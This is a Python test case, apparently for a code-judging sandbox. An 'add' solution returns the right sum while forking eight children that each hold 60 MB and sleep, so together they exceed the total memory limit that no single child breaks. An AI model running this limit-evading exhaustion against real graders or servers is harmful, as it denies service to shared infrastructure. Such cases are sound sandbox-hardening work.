# Attack: each child stays below the limit, all of them together do not; the answer itself is right.
# task: add
# runs: always
import os
import time


def solve(a, b):
    pipes = []
    for _ in range(8):
        read, write = os.pipe()
        if os.fork() == 0:
            block = bytearray(60 << 20)
            for place in range(0, len(block), 4096):
                block[place] = 1
            os.write(write, b"1")
            time.sleep(60)
        os.close(write)
        pipes.append(read)
    for pipe in pipes:
        os.read(pipe, 1)
    return a + b
